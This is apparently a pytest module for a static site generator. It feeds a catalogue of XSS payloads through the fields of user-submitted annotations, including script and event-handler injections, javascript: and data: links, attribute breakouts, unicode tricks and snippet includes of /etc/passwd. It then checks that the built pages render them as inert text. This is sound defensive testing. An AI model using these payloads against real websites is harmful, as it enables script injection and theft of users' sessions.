"""Annotation files come from pull requests: untrusted. These tests feed a catalogue of
XSS payloads through every field of an annotation, build the whole site, and check the
BUILT HTML (article pages, annotations index, tag pages, orphaned page) and downloads with
an HTML parser; and they feed hostile YAML to `parse_file`.

One site is built per module with every payload, and one baseline site without them (the
seed articles and the repository's three real annotations): theme scripts, forms and icons
are whatever the baseline has, and nothing more may appear.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import shutil
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urljoin, urlsplit

import pytest

from conftest import ROOT, empty_content, import_seeds, make_article
from generator import yamlio
from generator.annotations import AnnotationSet, load_annotations, parse_file, tag_slug
from generator.archive import load_archive
from generator.build import build_site
from generator.render import NOTE_TAGS, UGC_REL
from generator.site import _plain, note_text

ARTICLE = "2021-10-24-wp-pakistan-aiuta-i-talebani-nella-lotta-contro-l-isis"
QUOTE = "il Pakistan utilizza canali di intelligence"  # once in the Sputnik article's body
ORPHAN_QUOTE = "una frase che in questo articolo non compare da nessuna parte"
ANNOTATIONS = Path("annotations") / ARTICLE


# --- the catalogue ----------------------------------------------------------------


class Xss(NamedTuple):
    """A payload written as an annotation's note (and a reply's note, and an orphan's
    quote), and what a reader must see of it: `shows`, joined by spaces, is the whole
    visible text of the note, as Python-Markdown without its raw-HTML readers shows it
    (raw HTML as the literal text, escaped, not dropped; Markdown marks gone)."""

    pid: str
    payload: str
    shows: tuple[str, ...]


def _x(pid: str, payload: str, *shows: str) -> Any:
    return pytest.param(Xss(pid, payload, shows or (payload,)), id=pid)


LONG = ("<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)> " * 250)[
    :19_990
]
LONG_SHOWN = LONG.replace("[x](javascript:alert(1))", "x")  # the cut-off tail is no link

NOTE_PAYLOADS = [
    # script elements
    _x("script", "<script>alert(1)</script>"),
    _x("script-uppercase-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    _x("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _x("script-double-open", "<<script>script>alert(1)<</script>/script>"),
    _x("script-nul", "<scr\x00ipt>alert(1)</script>"),  # the NUL is dropped
    # event handlers
    _x("img-onerror", "<img src=x onerror=alert(1)>"),
    _x("img-onerror-quoted", '<img src="x" onerror="alert(document.cookie)">'),
    _x("svg-onload", "<svg onload=alert(1)>"),
    _x("svg-slash-onload", "<svg/onload=alert(1)>"),
    _x("svg-script", "<svg><script>alert(1)</script></svg>"),
    _x("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    _x("body-onload", "<body onload=alert(1)>"),
    _x("b-onmouseover", "<b onmouseover=alert(1)>hover</b>"),
    _x("details-ontoggle", "<details open ontoggle=alert(1)>"),
    _x("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    # Markdown links with dangerous schemes: the link text stays, the href goes
    _x("md-link-javascript", "[click](javascript:alert(1))", "click"),
    _x("md-link-mixed-case", "[click](JaVaScRiPt:alert(1))", "click"),
    _x("md-link-tab-entity", "[click](java&#x09;script:alert(1))", "click"),
    _x("md-link-newline-entity", "[click](java&#10;script:alert(1))", "click"),
    _x("md-link-colon-entity", "[click](javascript&colon;alert(1))", "click"),
    _x("md-link-space-entity", "[click](&#32;javascript:alert(1))", "click"),
    _x("md-link-encoded-j", "[click](&#106;avascript:alert(1))", "click"),
    _x("md-link-angle-brackets", "[click](<javascript:alert(1)>)", "click"),
    _x("md-link-zero-width", "[click](java\u200bscript:alert(1))", "click"),
    _x("md-link-fullwidth-j", "[click](\uff4aavascript:alert(1))", "click"),
    _x("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "click"),
    _x("md-link-vbscript", "[click](vbscript:msgbox(1))", "click"),
    _x("md-link-title-breakout", '[click](https://example.org "t\\" onmouseover=\\"alert(1)")', "click"),
    _x("md-link-url-breakout", '[click](https://example.org/"onmouseover="alert(1))', "click)"),
    _x("md-link-nested", "[[inner](javascript:alert(1))](https://example.org)", "[inner](javascript:alert(1))"),
    _x("md-link-html-text", "[<img src=x onerror=alert(1)>](https://example.org)", "<img src=x onerror=alert(1)>"),
    _x("md-reference-link", "[click][evil]\n\n[evil]: javascript:alert(1)", "click"),
    _x("md-reference-title", '[click][evil]\n\n[evil]: JAVASCRIPT:alert(1) "t"', "click"),
    _x("md-reference-data", "[click][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>", "click"),
    _x("md-image-javascript", "before ![x](javascript:alert(1)) after", "before", "after"),
    _x("md-image-onerror", 'before ![x" onerror="alert(1)](https://example.org/x.png) after', "before", "after"),
    _x("md-image-tracker", "before ![](https://evil.example/pixel.png) after", "before", "after"),
    # autolinks (http(s) and mailto ones become links) and raw links
    _x("autolink-https", "<https://example.org/page?a=1&b=2>", "https://example.org/page?a=1&b=2"),
    _x("autolink-uppercase", "<HTTPS://EXAMPLE.ORG/>", "HTTPS://EXAMPLE.ORG/"),
    _x("autolink-javascript", "<javascript:alert(1)>"),
    _x("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    _x("autolink-ftp", "<ftp://example.org/>", "ftp://example.org/"),
    _x("autolink-protocol-relative", "<//evil.example/x>"),
    _x("autolink-breakout", '<https://example.org/"onmouseover="alert(1)>', 'https://example.org/"onmouseover="alert(1)'),
    _x("autolink-svg-path", "<http://example.org/<svg/onload=alert(1)>>"),
    _x("autolink-mailto", "<mailto:x@example.org?body=<script>alert(1)</script>>"),
    _x("autolink-email", "<x@example.org>", "x@example.org"),
    _x("raw-a-javascript", '<a href="javascript:alert(1)">click</a>'),
    _x("raw-a-entity-href", '<a href="&#106;avascript:alert(1)">click</a>', '<a href="javascript:alert(1)">click</a>'),
    # entities smuggling markup
    _x("entities-named", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    _x("entities-decimal", "&#60;script&#62;alert(1)&#60;/script&#62;", "<script>alert(1)</script>"),
    _x("entities-hex", "&#x3C;img src=x onerror=alert(1)&#x3E;", "<img src=x onerror=alert(1)>"),
    _x("entities-double", "&amp;lt;script&amp;gt;alert(1)", "&lt;script&gt;alert(1)"),
    # breaking out of attributes
    _x("attr-break-double", '"><script>alert(1)</script>'),
    _x("attr-break-single", "'><img src=x onerror=alert(1)>"),
    _x("attr-break-backtick", "`><img src=x onerror=alert(1)>"),
    # style, frames, plugins, forms, MathML, templates, document-level tags
    _x("style-tag", "<style>body{display:none}</style>"),
    _x("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    _x("style-expression", '<div style="width:expression(alert(1))">x</div>'),
    _x("style-url-javascript", "<p style=\"background:url('javascript:alert(1)')\">x</p>"),
    _x("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    _x("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _x("object", '<object data="javascript:alert(1)"></object>'),
    _x("embed", '<embed src="javascript:alert(1)">'),
    _x("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    _x("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    _x("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    _x("math-href", '<math href="javascript:alert(1)">click</math>'),
    _x("template", "<template><script>alert(1)</script></template>"),
    _x("base-href", '<base href="javascript:alert(1)//">'),
    _x("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    _x("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    _x("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _x("html-comment", "<!--<script>alert(1)</script>-->"),
    _x("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    # unicode tricks
    _x("unicode-fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    _x("unicode-rtl-override", "\u202e<script>alert(1)</script>"),
    _x("unicode-combining-solidus", "<\u0338script>alert(1)</script>"),
    _x("unicode-escapes-as-text", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    _x("markdown-placeholders", "a\x02wzxhzdk:0\x03b \x0260\x03script\x0262\x03"),
    # Markdown and HTML nested
    _x("nested-emphasis", "**<script>**alert(1)**</script>**", "<script>alert(1)</script>"),
    _x("nested-blockquote", "> <script>alert(1)</script>", "<script>alert(1)</script>"),
    _x("nested-list", "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "x"),
    _x("nested-heading", "# <svg onload=alert(1)>", "<svg onload=alert(1)>"),
    # syntax of extensions the site enables (attr_list, admonition) or could (snippets)
    _x("attr-list", 'click me{: onclick="alert(1)"}'),
    _x("attr-list-heading", '# Title {: onclick="alert(1)" }', 'Title {: onclick="alert(1)" }'),
    _x("attr-list-link", '[click](https://example.org){: onclick="alert(1)" }', 'click{: onclick="alert(1)" }'),
    _x("snippet-passwd", '--8<-- "/etc/passwd"'),
    _x("snippet-mkdocs-yml", '--8<-- "../mkdocs.yml"'),
    _x("admonition-html", '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>', '!!! note "<script>alert(1)</script>"', "<img src=x onerror=alert(1)>"),
    _x("admonition-title-breakout", '!!! danger ""><svg onload=alert(1)>"\n    text', '!!! danger ""><svg onload=alert(1)>"', "text"),
    # code: shown literally, inside <code> (see CODE)
    _x("code-span", "`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    _x("code-span-entity", "`&lt;b&gt; & <b>`", "&lt;b&gt; & <b>"),
    _x("code-block", "    <script>alert(1)</script>", "<script>alert(1)</script>"),
    _x("code-fence-like", "```\n<b>x</b>\n```", "<b>x</b>"),
    # an extremely long note, under the schema's 20,000 characters
    _x("long-note", LONG, LONG_SHOWN),
]  # fmt: skip


class Field(NamedTuple):
    """A payload in one field other than the note. `accepted`: the schema lets it through
    (it must then be rendered inert); otherwise the file is skipped and its `marker` must
    appear nowhere in the site."""

    pid: str
    field: str
    value: str
    accepted: bool


FIELD_PAYLOADS = [
    Field("tag-script", "tags", "<script>alert('zqtagscriptqz')</script>", False),
    Field("tag-attr-break", "tags", "\"><img src=x onerror=alert('zqtagattrqz')>", False),
    Field("tag-javascript", "tags", "javascript:alert('zqtagjsqz')", False),
    Field("tag-attr-list", "tags", "zqtagattrlistqz {: onclick=alert(1)}", False),
    Field("tag-newline-heading", "tags", "zqtagnewlineqz\n# injected", False),
    Field("tag-word-onclick", "tags", "onclick", True),
    Field("tag-word-onclick-capital", "tags", "Onclick", True),
    Field("tag-underscore", "tags", "_", True),
    Field("tag-word-index", "tags", "index", True),
    Field("tag-word-script", "tags", "script", True),
    Field("tag-unicode", "tags", "città vecchia", True),
    Field("link-javascript", "links", "javascript:alert('zqlinkjsqz')", False),
    Field("link-mixed-case", "links", "JaVaScRiPt:alert('zqlinkcaseqz')", False),
    Field("link-tab", "links", "java\tscript:alert('zqlinktabqz')", False),
    Field("link-data", "links", "data:text/html,<script>alert('zqlinkdataqz')</script>", False),
    Field("link-vbscript", "links", "vbscript:msgbox('zqlinkvbqz')", False),
    Field("link-space-handler", "links", "https://example.org/ onmouseover=alert('zqlinkspqz')", False),
    Field("link-protocol-relative", "links", "//evil.example/zqlinkrelqz", False),
    Field("link-quote-breakout", "links", 'https://example.org/"><script>alert(1)</script>', True),
    Field("link-handler-breakout", "links", 'https://example.org/"onmouseover="alert(1)', True),
    Field("link-svg-path", "links", "http://example.org/<svg/onload=alert(1)>", True),
    Field("link-userinfo", "links", "https://javascript:alert(1)@example.org/", True),
    Field("author-attr-break", "author", "x\" onmouseover=\"alert('zqauthorqz')", False),
    Field("author-script", "author", "<script>zqauthorscriptqz</script>", False),
    Field("author-path", "author", "../../zqauthorpathqz", False),
    Field("reply-author-javascript", "reply-author", "javascript:alert('zqreplyqz')", False),
    Field("id-attr-break", "id", "x\" onclick=\"alert('zqidqz')", False),
    Field("id-script", "id", "<script>zqidscriptqz</script>", False),
    Field("id-path", "id", "../../zqidpathqz", False),
    Field("kind-attr-break", "kind", "comment\" onclick=\"alert('zqkindqz')", False),
    Field("verdict-script", "verdict", "<script>zqverdictqz</script>", False),
    Field("date-attr-break", "date", "2024-01-01\"><script>zqdateqz</script>", False),
    Field("article-script", "article", "<script>zqarticleqz</script>", False),
    Field("extra-key-onclick", "extra-key", "alert('zqextrakeyqz')", False),
    Field("suffix-script", "suffix", "<script>alert('suffix')</script>", True),
    Field("filename-img", "filename", "<img src=x onerror=alert(1)>", True),
    Field("filename-backtick", "filename", "x`<img src=x onerror=alert(2)>`", True),
]  # fmt: skip

INJECTED_HEADING = "Nota della redazione: articolo smentito"
INJECTION_QUOTE = (
    f"frase inesistente\n\n# {INJECTED_HEADING}\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |"
)


def _xss(param: Any) -> Xss:
    return param.values[0]


def _marker(value: str) -> str:
    found = re.search(r"zq\w+?qz", value)
    assert found, value
    return found[0]


def _base(annotation_id: str, **fields: Any) -> dict[str, Any]:
    item: dict[str, Any] = {
        "id": annotation_id,
        "quote": QUOTE,
        "kind": "comment",
        "note": f"note of {annotation_id}",
        "author": "tester",
        "date": "2024-01-01",
    }
    item.update(fields)
    return item


def _write(content: Path, name: str, items: list[dict[str, Any]], article: str = ARTICLE) -> None:
    folder = content / ANNOTATIONS
    folder.mkdir(parents=True, exist_ok=True)
    document = {"article": article, "annotations": items}
    text = yamlio.dump(document)
    assert yamlio.load(text).data == document, f"{name} does not read back as written"
    (folder / name).write_text(text, encoding="utf-8")


def _field_item(case: Field) -> tuple[str, list[dict[str, Any]], str]:
    """(file name, annotations, article) of a field payload."""
    item = _base(f"field-{case.pid}")
    name, article = f"field-{case.pid}.yml", ARTICLE
    if case.field in ("tags", "links"):
        item[case.field] = [case.value]
    elif case.field in ("author", "id", "kind", "date", "suffix"):
        item[case.field] = case.value
    elif case.field == "verdict":
        item.update(kind="fact-check", verdict=case.value)
    elif case.field == "reply-author":
        item["replies"] = [{"author": case.value, "date": "2024-01-02", "note": "reply"}]
    elif case.field == "extra-key":
        item["onclick"] = case.value
    elif case.field == "article":
        article = case.value
    elif case.field == "filename":
        item["quote"] = ORPHAN_QUOTE
        name = f"{case.value}.yml"
    return name, [item], article


def write_payloads(content: Path) -> None:
    for param in NOTE_PAYLOADS:
        xss = _xss(param)
        reply = {"author": "replier", "date": "2024-01-02", "note": xss.payload}
        _write(
            content,
            f"xss-{xss.pid}.yml",
            [
                _base(f"xss-{xss.pid}", note=xss.payload, tags=["xss"], replies=[reply]),
                _base(f"orphan-{xss.pid}", quote=xss.payload[:2000], note=xss.payload),
            ],
        )
    for case in FIELD_PAYLOADS:
        name, items, article = _field_item(case)
        _write(content, name, items, article)
    _write(content, "injection.yml", [_base("orphan-injection", quote=INJECTION_QUOTE)])


# --- a small DOM on html.parser -------------------------------------------------------

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param"}
VOID |= {"source", "track", "wbr", "keygen"}
BLOCKS = {"p", "div", "li", "ul", "ol", "h1", "h2", "h3", "h4", "section", "article"}
BLOCKS |= {"blockquote", "pre", "br", "tr", "td", "th", "table"}


@dataclass(eq=False)
class Node:
    tag: str
    attrs: list[tuple[str, str | None]]
    parent: Node | None = field(default=None, repr=False)
    children: list[Node | str] = field(default_factory=list, repr=False)

    def get(self, name: str) -> str | None:
        return dict(self.attrs).get(name)

    def classes(self) -> list[str]:
        return (self.get("class") or "").split()

    def iter(self) -> Iterator[Node]:
        yield self
        for child in self.children:
            if isinstance(child, Node):
                yield from child.iter()

    def find_all(self, tag: str | None = None, cls: str | None = None) -> list[Node]:
        return [
            n
            for n in self.iter()
            if (tag is None or n.tag == tag) and (cls is None or cls in n.classes())
        ]

    def find(self, tag: str | None = None, cls: str | None = None) -> Node | None:
        found = self.find_all(tag, cls)
        return found[0] if found else None

    def by_id(self, element_id: str) -> Node | None:
        return next((n for n in self.iter() if n.get("id") == element_id), None)

    def raw_text(self) -> str:
        out: list[str] = []
        for child in self.children:
            if isinstance(child, str):
                out.append(child)
            else:
                pad = " " if child.tag in BLOCKS else ""
                out.append(pad + child.raw_text() + pad)
        return "".join(out)

    def text(self) -> str:
        return norm(self.raw_text())

    def next_element(self) -> Node | None:
        assert self.parent is not None
        siblings = [c for c in self.parent.children if isinstance(c, Node)]
        index = siblings.index(self)
        return siblings[index + 1] if index + 1 < len(siblings) else None


class _TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", [])
        self.stack = [self.root]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, attrs, self.stack[-1])
        self.stack[-1].children.append(node)
        if tag not in VOID:
            self.stack.append(node)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.stack[-1].children.append(Node(tag, attrs, self.stack[-1]))

    def handle_endtag(self, tag: str) -> None:
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data: str) -> None:
        self.stack[-1].children.append(data)


def parse_html(html: str) -> Node:
    builder = _TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder.root


_DROPPED = dict.fromkeys(map(ord, "\x00\x02\x03"), None)


def norm(text: str) -> str:
    """Text with whitespace runs made one space; NUL and Markdown's STX/ETX (which the
    renderers drop) removed."""
    return " ".join(text.translate(_DROPPED).split())


# --- the two sites --------------------------------------------------------------------


@dataclass
class Site:
    folder: Path
    pages: dict[str, Node] = field(repr=False)  # "articles/x/index.html" -> its DOM
    files: dict[str, str] = field(repr=False)  # every text file of the site, by path
    notes: AnnotationSet = field(repr=False)


def build(folder: Path, with_payloads: bool) -> Site:
    content = empty_content(folder)
    import_seeds(content)
    shutil.copytree(ROOT / "content" / "annotations", content / "annotations")
    if with_payloads:
        write_payloads(content)
    archive, _ = load_archive(content)
    notes = load_annotations(content, {a.id: a for a in archive.articles})
    site = folder / "site"
    build_site(ROOT / "mkdocs.yml", content, site, progress=False)
    files = {
        p.relative_to(site).as_posix(): p.read_text("utf-8")
        for p in sorted(site.rglob("*"))
        if p.suffix in {".html", ".jsonld", ".jsonl", ".csv", ".xml", ".md"}
    }
    files |= {  # the compressed downloads, read as the text they hold
        p.relative_to(site).as_posix().removesuffix(".gz"): gzip.decompress(p.read_bytes()).decode(
            "utf-8"
        )
        for p in sorted((site / "downloads").glob("*.gz"))
    }
    pages = {path: parse_html(text) for path, text in files.items() if path.endswith(".html")}
    return Site(folder, pages, files, notes)


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Site, Site]:
    """(baseline, with every payload)."""
    baseline = build(tmp_path_factory.mktemp("baseline"), with_payloads=False)
    payloads = build(tmp_path_factory.mktemp("payloads"), with_payloads=True)
    return baseline, payloads


@pytest.fixture(scope="module")
def site(sites: tuple[Site, Site]) -> Site:
    return sites[1]


def page(site: Site, path: str) -> Node:
    assert path in site.pages, f"{path} was not built"
    return site.pages[path]


ARTICLE_PAGE = f"articles/{ARTICLE}/index.html"
INDEX_PAGE = "annotations/index.html"
ORPHAN_PAGE = "annotations/orphaned/index.html"


def content_of(root: Node) -> Node:
    found = root.find("article", "md-content__inner")
    assert found is not None
    return found


# --- what every page must not have -------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
URL_ATTRIBUTES |= {"background", "cite", "longdesc", "ping", "srcset", "codebase", "manifest"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
DANGEROUS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form"}
DANGEROUS |= {"style", "base", "meta", "link", "template", "math", "svg", "img", "image"}
DANGEROUS |= {"input", "button", "textarea", "select", "video", "audio", "source", "noscript"}
DANGEROUS |= {"xmp", "noembed", "marquee", "portal", "dialog", "details", "foreignobject"}
_CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def scripts(root: Node) -> list[tuple[str | None, str]]:
    return [(n.get("src"), n.raw_text()) for n in root.find_all("script")]


def handlers(root: Node) -> set[tuple[str, str, str | None]]:
    return {(n.tag, k, v) for n in root.iter() for k, v in n.attrs if k.startswith("on")}


def bad_urls(root: Node) -> list[str]:
    found = []
    for node in root.iter():
        for name, value in node.attrs:
            if name in URL_ATTRIBUTES and value is not None:
                for candidate in value.split(",") if name == "srcset" else [value]:
                    if _CONTROL.sub("", candidate).lower().startswith(BAD_SCHEMES):
                        found.append(f"<{node.tag} {name}={value!r}>")
    return found


def counts(root: Node) -> Counter[str]:
    return Counter(n.tag for n in root.iter() if n.tag in DANGEROUS)


def styles(root: Node) -> set[str | None]:
    return {n.get("style") for n in root.iter() if n.get("style") is not None}


def test_payload_site_has_every_page(sites: tuple[Site, Site]) -> None:
    baseline, payloads = sites
    assert set(baseline.pages) <= set(payloads.pages)
    for path in (ARTICLE_PAGE, INDEX_PAGE, ORPHAN_PAGE, "annotations/tags/xss/index.html"):
        assert path in payloads.pages
    assert len(payloads.notes.orphans) >= len(NOTE_PAYLOADS)


def test_no_script_but_the_themes(sites: tuple[Site, Site]) -> None:
    baseline, payloads = sites
    allowed = {s for root in baseline.pages.values() for s in scripts(root)}
    foreign = {
        (path, s)
        for path, root in payloads.pages.items()
        for s in scripts(root)
        if s not in allowed
    }
    assert not foreign
    for path, root in payloads.pages.items():
        if path in baseline.pages:
            assert len(scripts(root)) == len(scripts(baseline.pages[path])), path


def test_no_event_handler_attribute_but_the_themes(sites: tuple[Site, Site]) -> None:
    baseline, payloads = sites
    allowed = {h for root in baseline.pages.values() for h in handlers(root)}
    assert allowed <= {("form", "onsubmit", "return false")}  # the theme's search box
    found = {(path, h) for path, root in payloads.pages.items() for h in handlers(root)}
    assert {(path, h) for path, h in found if h not in allowed} == set()


def test_no_javascript_vbscript_or_data_url(site: Site) -> None:
    found = {path: bad for path, root in site.pages.items() if (bad := bad_urls(root))}
    assert found == {}


def test_no_style_attribute_from_payloads(sites: tuple[Site, Site]) -> None:
    baseline, payloads = sites
    allowed = {s for root in baseline.pages.values() for s in styles(root)}
    found = {(path, s) for path, root in payloads.pages.items() for s in styles(root)}
    assert {(path, s) for path, s in found if s not in allowed} == set()


def _baseline_counts(baseline: Site, path: str) -> Counter[str]:
    """The dangerous-tag counts of the same page in the baseline, else of a page of the
    same kind (another tag page), else the most any baseline page has."""
    if path in baseline.pages:
        return counts(baseline.pages[path])
    kind = Path(path).parent.parent
    siblings = [p for p in baseline.pages if Path(p).parent.parent == kind]
    if siblings:
        return counts(baseline.pages[siblings[0]])
    most: Counter[str] = Counter()
    for root in baseline.pages.values():
        most |= counts(root)
    return most


def test_no_iframe_object_embed_form_style_or_other_element_from_payloads(
    sites: tuple[Site, Site],
) -> None:
    baseline, payloads = sites
    assert not {"iframe", "object", "embed", "style", "template", "math", "img"} & {
        tag for root in baseline.pages.values() for tag in counts(root)
    }
    grown = {}
    for path, root in payloads.pages.items():
        before = _baseline_counts(baseline, path)
        more = {tag: n for tag, n in counts(root).items() if n > before[tag]}
        if more:
            grown[path] = more
    assert grown == {}


# --- each note payload: inert, and shown as text -----------------------------------------

CARD_TAGS = NOTE_TAGS | {"article", "p", "span", "a", "blockquote", "div", "time", "ol", "ul"}
CARD_ATTRIBUTES = {"class", "id", "data-annotation", "href", "rel", "title", "datetime"}
CARD_ATTRIBUTES |= {"aria-label"}


def _check_user_html(fragment: Node) -> None:
    """What note_html may produce: allowlisted tags, links with http(s)/mailto or relative
    hrefs and rel="nofollow ugc noopener", no other attribute."""
    for node in list(fragment.iter())[1:]:
        assert node.tag in NOTE_TAGS, node.tag
        names = {k for k, _ in node.attrs}
        if node.tag == "a":
            assert names <= {"href", "title", "rel"}, node.attrs
            assert node.get("rel") == UGC_REL
            href = node.get("href")
            if href is not None:
                assert urlsplit(href).scheme in ("", "http", "https", "mailto"), href
        else:
            assert not names, (node.tag, node.attrs)


def _card(site: Site, annotation_id: str) -> Node:
    card = page(site, ARTICLE_PAGE).by_id(f"annotation-{annotation_id}")
    assert card is not None and card.tag == "article", f"no card for {annotation_id}"
    for node in card.iter():
        assert node.tag in CARD_TAGS, node.tag
        assert {k for k, _ in node.attrs} <= CARD_ATTRIBUTES, (node.tag, node.attrs)
    return card


def _shown(xss: Xss) -> str:
    return norm(" ".join(xss.shows))


def _note_body(site: Site, xss: Xss) -> Node:
    body = _card(site, f"xss-{xss.pid}").find("div", "postilla-note-body")
    assert body is not None
    return body


@pytest.mark.parametrize("xss", NOTE_PAYLOADS)
def test_note_payload_is_shown_as_text(site: Site, xss: Xss) -> None:
    body = _note_body(site, xss)
    _check_user_html(body)
    assert body.text() == _shown(xss)


@pytest.mark.parametrize("xss", NOTE_PAYLOADS)
def test_reply_payload_is_shown_as_text(site: Site, xss: Xss) -> None:
    card = _card(site, f"xss-{xss.pid}")
    replies = card.find("ol", "postilla-replies")
    assert replies is not None
    (reply,) = [c for c in replies.children if isinstance(c, Node) and c.tag == "li"]
    meta = reply.find("p", "postilla-note-meta")
    assert meta is not None and "@replier" in meta.text()
    rest = Node("#fragment", [], children=[c for c in reply.children if c is not meta])
    _check_user_html(rest)
    assert rest.text() == _shown(xss)


# Autolinks that become links, and the href each must have (None: a link without href,
# nh3 having dropped a scheme it does not allow); every other autolink stays text.
AUTOLINKS = {
    "autolink-https": "https://example.org/page?a=1&b=2",
    "autolink-uppercase": "HTTPS://EXAMPLE.ORG/",
    "autolink-ftp": None,
    "autolink-breakout": 'https://example.org/"onmouseover="alert(1)',
    "autolink-email": "mailto:x@example.org",
}
AUTOLINK_PAYLOADS = [p for p in NOTE_PAYLOADS if _xss(p).pid.startswith("autolink-")]


@pytest.mark.parametrize("xss", AUTOLINK_PAYLOADS)
def test_autolink_is_a_safe_link_or_text(site: Site, xss: Xss) -> None:
    body = _note_body(site, xss)
    links = body.find_all("a")
    if xss.pid not in AUTOLINKS:
        assert links == []
        return
    (link,) = links
    assert {k for k, _ in link.attrs} <= {"href", "rel"}, link.attrs
    assert link.get("rel") == UGC_REL
    href = link.get("href")
    assert href == AUTOLINKS[xss.pid]
    allowed = ("mailto",) if xss.pid == "autolink-email" else ("http", "https")
    assert href is None or urlsplit(href).scheme.lower() in allowed, href
    assert link.text() == _shown(xss)


# Code spans and blocks: the markup in them shown exactly as written (no "&lt;"), in <code>.
CODE = {"code-span", "code-span-entity", "code-block", "code-fence-like"}


@pytest.mark.parametrize("xss", [p for p in NOTE_PAYLOADS if _xss(p).pid in CODE])
def test_code_shows_markup_literally(site: Site, xss: Xss) -> None:
    body = _note_body(site, xss)
    (code,) = body.find_all("code")
    assert code.text() == _shown(xss)
    block = "pre" if xss.pid == "code-block" else "p"
    assert [n.tag for n in body.iter()] == ["div", block, "code"]
    if "&lt;" not in xss.payload:
        assert "&lt;" not in body.text() and "&amp;" not in body.text()


def _squeezed(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("xss", NOTE_PAYLOADS)
def test_note_payload_is_listed_as_text(site: Site, xss: Xss) -> None:
    """The annotations index and the tag page list the note's first words as plain text:
    the rendered, sanitised note's text (`note_text`), so no Markdown marks, escaped."""
    target = f"#annotation-xss-{xss.pid}"
    listed = norm(_plain(note_text(xss.payload)))
    for path in (INDEX_PAGE, "annotations/tags/xss/index.html"):
        links = [
            a for a in page(site, path).find_all("a") if (a.get("href") or "").endswith(target)
        ]
        assert len(links) == 1, path
        row = links[0].parent
        assert row is not None and row.tag == "li"
        for node in list(row.iter())[1:]:
            assert node.tag in {"span", "a", "br", "q"}, node.tag
        (quote,) = row.find_all("q")
        after = row.children[row.children.index(quote) + 1 :]
        assert all(isinstance(c, str) for c in after), path
        assert norm("".join(after)) == listed  # type: ignore[arg-type]
    # the same characters as the card shows (a listing may space them differently, and
    # cuts a long note short)
    assert _squeezed(_shown(xss)).startswith(_squeezed(listed).removesuffix("…"))


@pytest.mark.parametrize("xss", NOTE_PAYLOADS)
def test_quote_payload_is_an_orphan_shown_as_text(site: Site, xss: Xss) -> None:
    """The payload as a quote found nowhere in the article: listed on the orphaned page,
    and shown exactly as written, its lines joined into one."""
    orphans = {a.annotation.id for a in site.notes.orphans}
    assert f"orphan-{xss.pid}" in orphans
    heading = content_of(page(site, ORPHAN_PAGE)).by_id(f"orphan-{xss.pid}")
    assert heading is not None and heading.tag == "h2"
    details = heading.next_element()
    assert details is not None
    for node in details.iter():
        assert node.tag not in DANGEROUS, node.tag
        assert not any(k.startswith("on") or k == "style" for k, _ in node.attrs)
    assert f"«{norm(xss.payload[:2000])}»" in details.text()


def test_orphan_quote_cannot_add_headings_rules_or_tables(sites: tuple[Site, Site]) -> None:
    """A quote with blank lines, a heading, a rule and a table is one line of text on the
    orphaned page, and the list's next line (author, date, file) stays whole."""
    baseline, payloads = sites
    body = content_of(page(payloads, ORPHAN_PAGE))
    before = content_of(page(baseline, ORPHAN_PAGE))
    assert len(body.find_all("h1")) == 1
    assert len(body.find_all("hr")) == len(before.find_all("hr"))
    assert not body.find_all("table") and not before.find_all("table")
    assert not [
        h for h in body.find_all() if h.tag in {"h1", "h2", "h3"} and INJECTED_HEADING in h.text()
    ]
    heading = body.by_id("orphan-injection")
    assert heading is not None and heading.tag == "h2"
    details = heading.next_element()
    assert details is not None and details.tag == "ul"
    items = [c for c in details.children if isinstance(c, Node)]
    assert [i.tag for i in items] == ["li", "li", "li"]
    assert f"«{norm(INJECTION_QUOTE)}»" in items[1].text()
    assert "@tester" in items[2].text() and "/injection.yml" in items[2].text()
